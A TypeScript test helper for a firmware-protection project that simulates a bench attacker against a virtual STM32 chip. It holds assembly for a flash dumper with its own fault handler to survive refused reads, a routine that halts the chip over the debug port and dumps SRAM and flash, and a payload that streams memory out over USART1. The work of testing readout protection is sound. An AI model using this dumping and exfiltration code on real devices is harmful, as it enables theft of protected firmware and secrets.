// What an attacker brings: a probe on the debug port, code of his own for SRAM or flash, and patience.
// All of it is what somebody with the chip on a bench can do; what he got is compared with what is secret
// by the test, which alone knows it.

import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { concatBytes } from '@firmseal/bytes';
import { readImage } from '@firmseal/image';
import type { VirtualChip } from '@firmseal/virtual-stm32';
import { TestDebugger } from '@firmseal/virtual-stm32/testing';
import { runTool } from '../../../tools/toolchain.ts';

export interface Place {
  readonly address: number;
  readonly length: number;
}

/** Assembles for ARMv6-M at an address; whole words. */
function assemble(source: string, address: number): Uint8Array<ArrayBuffer> {
  const folder = mkdtempSync(join(tmpdir(), 'firmseal-attacker-'));
  try {
    const head = '.syntax unified\n.cpu cortex-m0plus\n.thumb\n.global start\n';
    writeFileSync(join(folder, 'code.S'), head + source);
    const place = `-Wl,-Ttext=0x${address.toString(16)}`;
    const flags = ['-mcpu=cortex-m0plus', '-mthumb', '-nostdlib', '-Wl,-n', '-Wl,-e,start', place];
    runTool('arm-none-eabi-gcc', [...flags, 'code.S', '-o', 'code.elf'], folder);
    const [segment] = readImage(readFileSync(join(folder, 'code.elf'))).segments;
    const padded = new Uint8Array(Math.ceil(segment!.bytes.length / 4) * 4);
    padded.set(segment!.bytes);
    return padded;
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** Where the dumper stands in SRAM, behind the agent's data, and where it copies to. */
const codeOffset = 0x8000;
const copyOffset = 0x9000;
const stackOffset = 0x8000;
const done = 0x600d_600d;
const failed = 0xbadc_0de5;

/**
 * Copies words out of flash into SRAM. Has a fault handler of its own in SRAM, so a
 * refused read does not stop it.
 */
const dumper = ({ address, length }: Place, ram: number) => `
start:
  ldr r0, =vectors
  ldr r1, =0xe000ed08
  str r0, [r1]
  ldr r0, =${address}
  ldr r1, =${ram + copyOffset}
  ldr r2, =${length / 4}
1: ldr r3, [r0]
  str r3, [r1]
  adds r0, #4
  adds r1, #4
  subs r2, #1
  bne 1b
  ldr r3, =${done}
  b finish
fault:
  ldr r3, =${failed}
finish:
  ldr r1, =${ram + copyOffset - 4}
  str r3, [r1]
  bkpt #0
.pool
.balign 1024
vectors: .word ${ram + stackOffset}, start + 1, fault + 1, fault + 1
`;

export interface Loot {
  /** The debug port answered. */
  readonly connected: boolean;
  /** The dumper was loaded and ran; `refused`: its first read of flash was a fault. */
  readonly dumper: 'not-loaded' | 'copied' | 'refused';
  readonly flash: Uint8Array;
  readonly ram: Uint8Array;
}

/**
 * Halts the chip, reads SRAM, then each place of flash directly and by the dumper. Leaves the
 * chip to the next power cycle.
 */
export function raid(chip: VirtualChip, places: readonly Place[], ramBytes = 0x4000): Loot {
  const ram = chip.chip.ram[0]!.addressStart;
  const probe = new TestDebugger(chip.machine.debugPort);
  const nothing = new Uint8Array(0);
  if (probe.connect() === undefined || !probe.halt())
    return { connected: false, dumper: 'not-loaded', flash: nothing, ram: nothing };
  const seen = probe.readBytes(ram, ramBytes) ?? nothing;
  const got: Uint8Array[] = [];
  let outcome: Loot['dumper'] = 'not-loaded';
  for (const place of places) {
    got.push(probe.readBytes(place.address, place.length) ?? nothing);
    const program = { code: assemble(dumper(place, ram), ram + codeOffset), address: ram + codeOffset };
    if (!probe.start({ ...program, stack: ram + stackOffset }) || !probe.isHalted) continue;
    const end = probe.readWord(ram + copyOffset - 4);
    if (end === done) got.push(probe.readBytes(ram + copyOffset, place.length) ?? nothing);
    if (end === done) outcome = 'copied';
    else if (end === failed && outcome === 'not-loaded') outcome = 'refused';
  }
  return { connected: true, dumper: outcome, flash: concatBytes(...got), ram: seen };
}

/** A vector table and code that sends a place of memory over USART1 (the later layout), once. */
export const exfiltrator = (
  { address, length }: Place,
  { at, stack, usart }: { at: number; stack: number; usart: number },
): Uint8Array<ArrayBuffer> =>
  assemble(
    `
.word ${stack}, start + 1
.fill 46, 4, 0
start:
  ldr r0, =${usart}
  movs r1, #9
  str r1, [r0]
  ldr r2, =${address}
  ldr r3, =${length}
1: ldrb r1, [r2]
  str r1, [r0, #0x28]
  adds r2, #1
  subs r3, #1
  bne 1b
2: b 2b
.pool
`,
    at,
  );

/** Whether some 8 bytes of a secret stand in what was taken. */
export function contains(taken: Uint8Array, secret: Uint8Array): boolean {
  const text = Buffer.from(taken).toString('latin1');
  for (let at = 0; at + 8 <= secret.length; at += 4)
    if (text.includes(Buffer.from(secret.subarray(at, at + 8)).toString('latin1'))) return true;
  return false;
}
